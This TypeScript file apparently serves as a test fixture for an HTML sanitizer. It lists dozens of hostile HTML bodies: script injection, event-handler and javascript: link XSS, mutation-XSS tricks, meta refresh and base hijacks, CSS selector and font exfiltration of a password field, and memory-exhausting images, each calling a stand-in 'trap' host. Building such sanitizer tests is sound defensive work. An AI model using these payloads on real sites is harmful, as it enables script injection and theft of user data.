const handlers = [
  'click',
  'mouseover',
  'pointerdown',
  'focusin',
  'mouseenter',
  'wheel',
  'scroll',
  'copy',
]

/** Each tries to run a script or to reach `trap`. What a script would do is the same everywhere. */
export function hostileBodies(trap: string): readonly (readonly [name: string, html: string])[] {
  const script = `console.log('PWNED');try{parent.pwned=true}catch{};new Image().src='${trap}/script';fetch('${trap}/fetch');top.location='${trap}/top'`
  const attribute = script.replaceAll('"', '&quot;')
  const encoded = encodeURIComponent(`<script>${script}</script>`)
  return [
    ['script', `<script>${script}</script>`],
    ['script from elsewhere', `<script src="${trap}/a.js"></script>`],
    ['module script', `<script type="module">${script}</script>`],
    ['onerror', `<img src="x:" onerror="${attribute}">`],
    ['onload of the body', `<body onload="${attribute}">hello</body>`],
    ['autofocus', `<input autofocus onfocus="${attribute}">`],
    ['toggle', `<details open ontoggle="${attribute}"><summary>x</summary></details>`],
    ['svg onload', `<svg onload="${attribute}"></svg>`],
    ['svg script', `<svg><script>${script}</script></svg>`],
    [
      'svg animation',
      `<svg><animate onbegin="${attribute}" attributeName="x" dur="1s"></animate></svg>`,
    ],
    [
      'svg use',
      `<svg><use href="${trap}/x.svg#y"></use><image href="${trap}/image"></image></svg>`,
    ],
    [
      'mathml',
      `<math><maction actiontype="statusline" xlink:href="javascript:${script}">x</maction></math>`,
    ],
    ['javascript link', `<a class="bait" href="javascript:${attribute}">click</a>`],
    ['link to the top', `<a class="bait" target="_top" href="javascript:${attribute}">click</a>`],
    ['meta refresh', `<meta http-equiv="refresh" content="0;url=${trap}/refresh">`],
    [
      'meta refresh to a script',
      `<meta http-equiv="refresh" content="0;url=javascript:${attribute}">`,
    ],
    [
      'meta policy',
      `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${trap}/meta">`,
    ],
    ['base', `<base href="${trap}/"><img src="based.png"><script src="based.js"></script>`],
    ['form', `<form action="${trap}/form"><button class="bait">Send</button></form>`],
    [
      'form by the button',
      `<form><button class="bait" formaction="${trap}/formaction">Send</button></form>`,
    ],
    [
      'style import',
      `<style>@import url("${trap}/import.css"); @import "${trap}/import2.css";</style>`,
    ],
    [
      'style leak',
      `<style>body{background:url(${trap}/leak)} a[href^="h"]{background:url('${trap}/leak2')}</style><a href="https://x.example">x</a>`,
    ],
    [
      'style attribute',
      `<p style="background-image:url(${trap}/attribute);list-style:url(${trap}/list)">x</p>`,
    ],
    [
      'font',
      `<style>@font-face{font-family:x;src:url(${trap}/font.woff2)} p{font-family:x}</style><p>abc</p>`,
    ],
    [
      'stylesheet',
      `<link rel="stylesheet" href="${trap}/sheet.css"><link rel="preload" as="image" href="${trap}/preload"><link rel="prefetch" href="${trap}/prefetch"><link rel="icon" href="${trap}/icon">`,
    ],
    [
      'preconnect',
      `<link rel="preconnect" href="${trap}"><link rel="dns-prefetch" href="${trap}">`,
    ],
    [
      'images',
      `<img src="${trap}/img"><img srcset="${trap}/srcset 1x"><picture><source srcset="${trap}/source"><img></picture><table background="${trap}/table"><tr><td>x</td></tr></table>`,
    ],
    [
      'media',
      `<video src="${trap}/video" poster="${trap}/poster" autoplay></video><audio src="${trap}/audio" autoplay></audio><track src="${trap}/track">`,
    ],
    ['iframe', `<iframe src="${trap}/frame"></iframe>`],
    ['iframe srcdoc', `<iframe srcdoc="<script>${attribute}</script>"></iframe>`],
    ['iframe javascript', `<iframe src="javascript:${attribute}"></iframe>`],
    ['iframe data', `<iframe src="data:text/html,${encoded}"></iframe>`],
    [
      'object',
      `<object data="${trap}/object"></object><object data="data:text/html,${encoded}"></object>`,
    ],
    ['embed', `<embed src="${trap}/embed"><embed src="data:text/html,${encoded}">`],
    [
      'portal and template',
      `<template shadowrootmode="open"><img src="${trap}/shadow"><script>${script}</script></template>`,
    ],
    ['ping', `<a class="bait" href="#here" ping="${trap}/ping">click</a>`],
    [
      'mutation',
      `<noscript><p title="</noscript><img src=x: onerror=${attribute.replaceAll(' ', '&#32;')}>"></noscript>`,
    ],
    ['unclosed comment', `<!--><img src="x:" onerror="${attribute}">-->`],
    [
      'import map',
      `<script type="importmap">{"imports":{"x":"${trap}/map.js"}}</script><script type="module">import 'x'</script>`,
    ],
    [
      'handlers of every kind',
      `<div class="bait" style="height:40px" ${handlers.map((name) => `on${name}="${attribute}"`).join(' ')}>click</div>`,
    ],
    ['marquee', `<marquee onstart="${attribute}" onbounce="${attribute}">x</marquee>`],
    ['media error', `<video><source src="x:" onerror="${attribute}"></video>`],
    [
      'style load',
      `<style onload="${attribute}">p{color:red}</style><link rel="stylesheet" href="data:text/css," onload="${attribute}">`,
    ],
    [
      'css animation',
      `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart="${attribute}" onanimationend="${attribute}">x</p>`,
    ],
    [
      'script in odd clothes',
      `<ScRiPt/x>${script}</sCrIpT><script\n>${script}</script\t><svg/onload="${attribute}">`,
    ],
    [
      'script in an xml island',
      `<xml><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${script}</h:script></x></xml>`,
    ],
    [
      'javascript link with spaces',
      `<a class="bait" href=" &#1;java&#10;script:${attribute}">click</a>`,
    ],
    ['vbscript link', `<a class="bait" href="vbscript:msgbox(1)">click</a>`],
    ['data link', `<a class="bait" href="data:text/html,${encoded}">click</a>`],
    [
      'svg link',
      `<svg width="99" height="40"><a xlink:href="javascript:${attribute}"><rect class="bait" width="99" height="40"></rect></a></svg>`,
    ],
    [
      'svg that sets a link',
      `<svg width="99" height="40"><a><set attributeName="href" to="javascript:${attribute}"></set><animate attributeName="href" values="javascript:${attribute}"></animate><rect class="bait" width="99" height="40"></rect></a></svg>`,
    ],
    [
      'svg foreign object',
      `<svg><foreignObject><iframe src="javascript:${attribute}"></iframe><img src="x:" onerror="${attribute}"></foreignObject></svg>`,
    ],
    [
      'svg image',
      `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><image href="${trap}/svg-image"/></svg>`)}">`,
    ],
    [
      'svg filter',
      `<svg><filter id="f"><feImage href="${trap}/feimage"></feImage></filter><rect width="9" height="9" filter="url(${trap}/filter#f)"></rect></svg>`,
    ],
    [
      'image map',
      `<img usemap="#m" src="data:," width="99" height="40"><map name="m"><area class="map" href="javascript:${attribute}" coords="0,0,99,40"></map>`,
    ],
    [
      'button of a form',
      `<form id="f"></form><button class="bait" form="f" formaction="javascript:${attribute}">Send</button>`,
    ],
    [
      'form that sends by itself',
      `<form action="${trap}/auto"><input name="a" value="b" autofocus><input type="image" src="${trap}/input-image" class="bait" alt="Send"></form>`,
    ],
    [
      'meta refresh in the body',
      `<p>x<div><meta http-equiv="Refresh" content="0.1; URL='${trap}/late-refresh'"></div>`,
    ],
    [
      'meta of all kinds',
      `<meta http-equiv="set-cookie" content="a=b"><meta name="referrer" content="unsafe-url"><meta http-equiv="x-dns-prefetch-control" content="on"><a href="${trap}/looked-up">x</a>`,
    ],
    [
      'base with a target',
      `<base href="javascript:${attribute}//" target="_top"><a class="bait" href="x">click</a>`,
    ],
    [
      'exfiltration by selectors',
      `<style>${Array.from('abcdef')
        .map((letter) => `input[value^="${letter}"]{background:url(${trap}/leak-${letter})}`)
        .join(
          '',
        )}input:not(:focus){cursor:url(${trap}/cursor),auto}</style><input value="abc" type="password">`,
    ],
    [
      'exfiltration by fonts',
      `<style>${Array.from('abc')
        .map(
          (letter) =>
            `@font-face{font-family:leak;src:url(${trap}/glyph-${letter});unicode-range:U+${letter.charCodeAt(0).toString(16)}}`,
        )
        .join('')}p{font-family:leak}</style><p>abc</p>`,
    ],
    [
      'exfiltration in odd ways',
      `<style>p{background:image-set("${trap}/set" 1x);content:url(${trap}/content);mask:url(${trap}/mask);border-image:url(${trap}/border);shape-outside:url(${trap}/shape);-webkit-mask-image:u\\72l(${trap}/escaped)} @namespace url(${trap}/namespace); @import/**/"${trap}/import3.css";</style><p>x</p><p style="b\\61ckground:url(${trap}/escaped2)">x</p>`,
    ],
    [
      'css expressions',
      `<p style="width:expression(${attribute});behavior:url(${trap}/behavior);-moz-binding:url(${trap}/binding)">x</p>`,
    ],
    [
      'manifest and more',
      `<link rel="manifest" href="${trap}/manifest"><link rel="modulepreload" href="${trap}/module.js"><link rel="dns-prefetch" href="${trap}"><link rel="prerender" href="${trap}/prerender"><html manifest="${trap}/appcache">`,
    ],
    ['frames', `<frameset><frame src="${trap}/frameset"></frameset>`],
    [
      'fenced frame and portal',
      `<fencedframe src="${trap}/fenced"></fencedframe><portal src="${trap}/portal"></portal>`,
    ],
    [
      'applet',
      `<applet code="x" codebase="${trap}/applet"></applet><bgsound src="${trap}/bgsound"><img lowsrc="${trap}/lowsrc" dynsrc="${trap}/dynsrc"><layer src="${trap}/layer"></layer>`,
    ],
    [
      'conditional comment',
      `<!--[if gte IE 4]><script>${script}</script><![endif]--><![if true]><img src="x:" onerror="${attribute}"><![endif]>`,
    ],
    [
      'mutation in math',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${attribute.replaceAll(' ', '&#32;')}&gt;">`,
    ],
    ['huge images', hugeImages()],
    ['elements within elements', `${'<b>'.repeat(5_000)}deep${'<table><tr><td>'.repeat(5_000)}`],
    [
      'speculation',
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${trap}/speculate"]}]}</script>`,
    ],
  ]
}

/** They say that they are larger than any memory, and there are many of them. */
function hugeImages(): string {
  const svg = encodeURIComponent(
    '<svg xmlns="http://www.w3.org/2000/svg" width="99999999" height="99999999"><rect width="100%" height="100%" fill="red"/></svg>',
  )
  const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')
  // 65,535 pixels each way, of which none follows.
  const header = Buffer.from('0000ffff0000ffff08060000000000000000000000', 'hex')
  const large = Buffer.concat([png, header]).toString('base64')
  return [
    `<img width="9999999" height="9999999" src="data:image/svg+xml,${svg}">`,
    `<img src="data:image/png;base64,${large}">`.repeat(50),
    `<p style="width:99999999px;height:99999999px;filter:blur(9999px)">wide</p>`,
  ].join('')
}
